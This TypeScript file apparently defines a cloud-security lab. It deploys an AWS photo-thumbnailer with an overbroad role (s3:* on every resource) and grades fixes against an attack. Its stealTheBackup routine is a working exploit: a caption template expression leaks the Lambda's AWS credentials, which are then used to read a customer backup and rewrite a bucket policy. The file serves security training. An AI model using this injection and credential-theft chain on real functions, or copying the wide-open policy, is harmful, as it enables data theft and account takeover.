import {
  AttachRolePolicyCommand,
  CreateRoleCommand,
  CreateUserCommand,
  IAMClient,
  ListRolesCommand,
  PutRolePolicyCommand,
  PutUserPolicyCommand,
} from '@aws-sdk/client-iam';
import { AddPermissionCommand, CreateFunctionCommand, InvokeCommand, LambdaClient } from '@aws-sdk/client-lambda';
import {
  CreateBucketCommand,
  GetObjectCommand,
  ListBucketsCommand,
  ListObjectsV2Command,
  PutBucketNotificationConfigurationCommand,
  PutBucketPolicyCommand,
  PutObjectCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import {
  alphanumeric,
  type CheckContext,
  defineLab,
  fail,
  functionsOf,
  hex,
  type Outcome,
  objectEventRoutes,
  pass,
  rolesRefuseOutsiders,
  type S3Effect,
  s3Powers,
  s3Questions,
} from '../../server/kit.ts';

const backupKey = 'export/customers.csv';

export default defineLab({
  accounts: ['attacker'],
  needs: ['containment'],

  async deploy(world) {
    const { admin, id } = world.account();
    const s3 = admin.client(S3Client);
    const iam = admin.client(IAMClient);
    const lambda = admin.client(LambdaClient);
    const inBucket = world.name('photos-in');
    const outBucket = world.name('photos-out');
    const backup = `${inBucket}-backup`;
    for (const Bucket of [inBucket, outBucket, backup, world.name('invoices')])
      await s3.send(new CreateBucketCommand({ Bucket }));
    await s3.send(new PutObjectCommand({ Bucket: backup, Key: backupKey, Body: customers(hex(world.random, 12)) }));
    await s3.send(
      new PutObjectCommand({
        Bucket: inBucket,
        Key: 'contracts/kiosk-lease.txt',
        Body: 'Lease of kiosks, signed copy.\n',
      }),
    );

    await iam.send(new CreateUserCommand({ UserName: 'photo-kiosk' }));
    await iam.send(
      new PutUserPolicyCommand({
        UserName: 'photo-kiosk',
        PolicyName: 'pictures',
        PolicyDocument: policy([
          { Effect: 'Allow', Action: 's3:PutObject', Resource: `arn:aws:s3:::${inBucket}/uploads/*` },
          { Effect: 'Allow', Action: 's3:GetObject', Resource: `arn:aws:s3:::${outBucket}/thumbs/*` },
        ]),
      }),
    );
    const role = await iam.send(
      new CreateRoleCommand({
        RoleName: 'thumbnailer-role',
        AssumeRolePolicyDocument: policy([
          { Effect: 'Allow', Principal: { Service: 'lambda.amazonaws.com' }, Action: 'sts:AssumeRole' },
        ]),
      }),
    );
    await iam.send(
      new AttachRolePolicyCommand({
        RoleName: 'thumbnailer-role',
        PolicyArn: 'arn:aws:iam::aws:policy/service-role/AWSLambdaBasicExecutionRole',
      }),
    );
    await iam.send(
      new PutRolePolicyCommand({
        RoleName: 'thumbnailer-role',
        PolicyName: 's3-access',
        PolicyDocument: policy([{ Effect: 'Allow', Action: 's3:*', Resource: '*' }]),
      }),
    );

    const created = await lambda.send(
      new CreateFunctionCommand({
        FunctionName: 'thumbnailer',
        Runtime: 'nodejs22.x',
        Handler: 'index.handler',
        Role: role.Role!.Arn!,
        Code: { ZipFile: world.zip('function') },
        Environment: { Variables: { OUT_BUCKET: outBucket } },
        Timeout: 10,
        MemorySize: 256,
      }),
    );
    await lambda.send(
      new AddPermissionCommand({
        FunctionName: 'thumbnailer',
        StatementId: 's3',
        Principal: 's3.amazonaws.com',
        Action: 'lambda:InvokeFunction',
        SourceArn: `arn:aws:s3:::${inBucket}`,
        SourceAccount: id,
      }),
    );
    await s3.send(
      new PutBucketNotificationConfigurationCommand({
        Bucket: inBucket,
        NotificationConfiguration: {
          LambdaFunctionConfigurations: [
            {
              LambdaFunctionArn: created.FunctionArn!,
              Events: ['s3:ObjectCreated:*'],
              Filter: { Key: { FilterRules: [{ Name: 'prefix', Value: 'uploads/' }] } },
            },
          ],
        },
      }),
    );
    world.output('in bucket', inBucket);
    world.output('out bucket', outBucket);
    world.output('backup bucket', backup);
    world.output('other bucket', world.name('invoices'));
    world.output('function', 'thumbnailer');
    world.output('role', 'thumbnailer-role');
  },

  async restore(ctx) {
    const s3 = ctx.admin().client(S3Client);
    await s3.send(
      new PutObjectCommand({ Bucket: ctx.outputs['backup bucket']!, Key: backupKey, Body: customers(canaryOf(ctx)) }),
    );
  },

  exploit: stealTheBackup,

  checks: {
    'a-thumbnail-appears': {
      kind: 'function',
      title: 'A thumbnail appears',
      points: 0,
      async run(ctx) {
        const color = [...ctx.random.bytes(3)];
        const name = `${alphanumeric(ctx.random, 6)} Anna + José.ppm`;
        const kiosk = ctx.user('photo-kiosk').client(S3Client);
        const caption = `table ${alphanumeric(ctx.random, 4)}`;
        await kiosk.send(
          new PutObjectCommand({
            Bucket: ctx.outputs['in bucket']!,
            Key: `uploads/${name}`,
            Body: picture(64, 48, color, caption),
          }),
        );
        await ctx.settle();
        const got = await ctx.attempt(async () => {
          const object = await kiosk.send(
            new GetObjectCommand({ Bucket: ctx.outputs['out bucket']!, Key: `thumbs/${name}` }),
          );
          return Buffer.from(await object.Body!.transformToByteArray());
        });
        if (!got.ok)
          return fail(
            `thumbs/${name} did not appear in ${ctx.outputs['out bucket']} after an upload (${got.code})${ctx.lastFailure()}`,
          );
        const size = /^P6\s(?:#.*\n)*\s*(\d+) (\d+)\s/.exec(got.value.toString('latin1'));
        const pixel = [...got.value.subarray(-3)];
        if (!size || Number(size[1]) > 32 || pixel.some((value, i) => value !== color[i]))
          return fail(`thumbs/${name} is not a thumbnail of the picture that was uploaded`);
        return pass(`a picture uploaded by photo-kiosk came back as a thumbnail of ${size[1]}×${size[2]}`);
      },
    },

    'a-missing-picture-is-skipped': {
      kind: 'function',
      title: 'A missing picture is skipped',
      points: 0,
      async run(ctx) {
        const bucket = ctx.outputs['in bucket']!;
        const routes = await objectEventRoutes(ctx, bucket);
        if (routes.length === 0) return fail(`nothing is called when an object is put into ${bucket}`);
        const event = {
          Records: [
            {
              eventSource: 'aws:s3',
              eventName: 'ObjectCreated:Put',
              s3: {
                bucket: { name: bucket, arn: `arn:aws:s3:::${bucket}` },
                object: { key: `uploads/gone-${hex(ctx.random, 6)}.ppm`, size: 1 },
              },
            },
          ],
        };
        for (const { target, wrap } of routes) {
          const answer = await ctx
            .admin()
            .client(LambdaClient)
            .send(new InvokeCommand({ FunctionName: target, Payload: Buffer.from(JSON.stringify(wrap(event))) }));
          const said = Buffer.from(answer.Payload ?? []).toString();
          if (answer.FunctionError || /"batchItemFailures":\[\{/.test(said))
            return fail(`${target.split(':')[6]} fails on a picture that was deleted: ${said.slice(0, 200)}`);
        }
        return pass('a picture that is gone is skipped without an error');
      },
    },

    'the-backup-cannot-be-stolen': {
      kind: 'exploit',
      title: 'The backup cannot be stolen with a picture',
      points: 30,
      async run(ctx) {
        const { passed, because } = await stealTheBackup(ctx);
        return { passed: !passed, because };
      },
    },

    'reads-only-uploads': {
      kind: 'policy',
      title: 'Code in the function reads nothing but uploads',
      points: 30,
      async run(ctx) {
        const outsiders = rolesRefuseOutsiders(ctx, await everyRole(ctx));
        return outsiders.passed ? nothingElse(ctx, 'read') : outsiders;
      },
    },

    'writes-only-thumbs': {
      kind: 'policy',
      title: 'Code in the function writes nothing but thumbs',
      points: 20,
      run: (ctx) => nothingElse(ctx, 'write'),
    },

    'bucket-settings-are-out-of-reach': {
      kind: 'policy',
      title: 'Code in the function cannot touch bucket settings',
      points: 20,
      run: (ctx) => nothingElse(ctx, 'settings'),
    },
  },

  indifferent: [
    { mutant: 'thumbnailer-role: statement 3 dropped', because: 'listing uploads is allowed, not needed' },
    { mutant: 'thumbnailer-boundary: statement 3 dropped', because: 'logs are not part of the task' },
    { mutant: 'sqs.queues pictures', because: 'who may start the function is not part of the task' },
    { mutant: 'sns.topics pictures', because: 'as above' },
    { mutant: 'lambda.functionPolicies thumbnailer', because: 'as above' },
    {
      mutant: 's3.buckets',
      because:
        'the buckets block public access, so that a public statement reaches no outsider; who is in the account is trusted',
    },
  ],

  map: {
    nodes: [
      { id: 'guest', label: 'A guest with a picture', kind: 'entry' },
      { id: 'function', label: 'thumbnailer', kind: 'principal' },
      { id: 'role', label: 'thumbnailer-role', kind: 'principal' },
      { id: 'backup', label: 'customers.csv in the backup', kind: 'impact' },
      { id: 'settings', label: 'policies of all buckets', kind: 'impact' },
    ],
    edges: [
      { from: 'guest', to: 'function', call: 's3:PutObject uploads/', cutBy: [] },
      { from: 'function', to: 'role', call: 'credentials in the environment', cutBy: [] },
      {
        from: 'role',
        to: 'backup',
        call: 's3:GetObject',
        cutBy: ['the-backup-cannot-be-stolen', 'reads-only-uploads'],
      },
      { from: 'role', to: 'settings', call: 's3:PutBucketPolicy', cutBy: ['bucket-settings-are-out-of-reach'] },
    ],
  },
});

/** A guest's picture runs code in the function; the role's credentials come back in the caption and are used from outside. */
async function stealTheBackup(ctx: CheckContext): Promise<Outcome> {
  const { inBucket, outBucket, backup } = await buckets(ctx);
  const kiosk = ctx.user('photo-kiosk').client(S3Client);
  const name = `${hex(ctx.random, 8)}.ppm`;
  const expression = `{{ [process.env.AWS_ACCESS_KEY_ID, process.env.AWS_SECRET_ACCESS_KEY, process.env.AWS_SESSION_TOKEN].join('|') }}`;
  const sent = await ctx.attempt(() =>
    kiosk.send(
      new PutObjectCommand({ Bucket: inBucket, Key: `uploads/${name}`, Body: picture(8, 8, [1, 2, 3], expression) }),
    ),
  );
  if (!sent.ok) return fail(`photo-kiosk cannot upload to ${inBucket}: ${sent.code}`);
  await ctx.settle();
  const back = await ctx.attempt(async () =>
    (await kiosk.send(new GetObjectCommand({ Bucket: outBucket, Key: `thumbs/${name}` }))).Body!.transformToString(
      'latin1',
    ),
  );
  const stolen = back.ok ? /caption: (ASIA[A-Z0-9]+)\|([^|\s]+)\|([^|\s]+)/.exec(back.value) : null;
  if (!stolen) return fail('the caption of a picture no longer brings credentials back');
  const thief = ctx
    .holder('whoever has the stolen credentials', {
      accessKeyId: stolen[1]!,
      secretAccessKey: stolen[2]!,
      sessionToken: stolen[3]!,
    })
    .client(S3Client);
  await ctx.attempt(() => thief.send(new ListBucketsCommand({})));
  await ctx.attempt(() => thief.send(new ListObjectsV2Command({ Bucket: backup })));
  const read = await ctx.attempt(async () =>
    (await thief.send(new GetObjectCommand({ Bucket: backup, Key: backupKey }))).Body!.transformToString(),
  );
  const opened = await ctx.attempt(() =>
    thief.send(
      new PutBucketPolicyCommand({
        Bucket: backup,
        Policy: policy([
          {
            Effect: 'Allow',
            Principal: { AWS: `arn:aws:iam::${ctx.account().id}:root` },
            Action: 's3:GetObject',
            Resource: `arn:aws:s3:::${backup}/*`,
          },
        ]),
      }),
    ),
  );
  if (read.ok && read.value.includes(canaryOf(ctx)))
    return pass(`credentials stolen with a picture read ${backupKey} in ${backup}`);
  if (opened.ok) return pass(`credentials stolen with a picture rewrote the bucket policy of ${backup}`);
  return fail(`credentials stolen with a picture neither read ${backup} nor changed its policy`);
}

/** Code that runs in any function, by any means that it has there, does none of the calls that the job does not need. */
async function nothingElse(ctx: CheckContext, effect: S3Effect): Promise<Outcome> {
  const { inBucket, outBucket, backup, other } = await buckets(ctx);
  const name = `x-${hex(ctx.random, 4)}.ppm`;
  const prefixes = [undefined, '', 'u', 'contracts/', 'uploads', 'uploads-old/', 'thumbs/', 'private/'];
  const questions = await s3Questions(effect, [
    {
      name: backup,
      keys: [backupKey, `uploads/${name}`, `thumbs/${name}`],
      prefixes: [undefined, '', 'uploads/', 'export/'],
    },
    {
      name: inBucket,
      keys: [
        `uploads/${name}`,
        'contracts/kiosk-lease.txt',
        `uploads-old/${name}`,
        `archive/uploads/${name}`,
        `thumbs/${name}`,
        name,
      ],
      prefixes,
    },
    {
      name: outBucket,
      keys: [`thumbs/${name}`, `private/${name}`, `thumbs-old/${name}`, `old/thumbs/${name}`, `uploads/${name}`, name],
      prefixes: [...prefixes, 'uploads/'],
    },
    { name: other, keys: [`uploads/${name}`, `thumbs/${name}`, name], prefixes: [undefined, 'uploads/', 'thumbs/'] },
  ]);
  return s3Powers(ctx, await functionsOf(ctx, { allVersions: true }), questions, ({ action, bucket, key }) => {
    const call = action.slice('s3:'.length);
    if (bucket === inBucket && key === `uploads/${name}`)
      return ['GetObject', 'GetObjectVersion', 'GetObjectAttributes', 'GetObjectVersionAttributes'].includes(call);
    // Uploads in parts are writes of the same object, which their writer may list and give up.
    if (bucket === outBucket && key === `thumbs/${name}`)
      return ['PutObject', 'AbortMultipartUpload', 'ListMultipartUploadParts'].includes(call);
    return false;
  });
}

/** No role of this account has a job for outsiders, whether a function has it or only may take it on. */
async function everyRole(ctx: CheckContext) {
  const { Roles } = await ctx.admin().client(IAMClient).send(new ListRolesCommand({}));
  return (Roles ?? []).map(({ RoleName, Arn }) => ({ name: RoleName!, arn: '', roleArn: Arn! }));
}

async function buckets(ctx: CheckContext) {
  return {
    inBucket: ctx.outputs['in bucket']!,
    outBucket: ctx.outputs['out bucket']!,
    backup: ctx.outputs['backup bucket']!,
    other: ctx.outputs['other bucket']!,
  };
}

/** The same for the whole grade, as restore and the attack must agree on it. */
function canaryOf(ctx: CheckContext): string {
  return `canary-${ctx.gradeId}`;
}

function customers(canary: string): string {
  return `name,phone,venue\nRiver & Sons,555-0134,Old Mill\nNoor Hadid,555-0178,Harbour Hall\n${canary},555-0190,Orangery\n`;
}

function picture(width: number, height: number, color: number[], caption: string): Buffer {
  return Buffer.concat([
    Buffer.from(`P6\n# caption: ${caption}\n${width} ${height}\n255\n`),
    Buffer.concat(Array.from({ length: width * height }, () => Buffer.from(color))),
  ]);
}

function policy(Statement: object[]): string {
  return JSON.stringify({ Version: '2012-10-17', Statement });
}
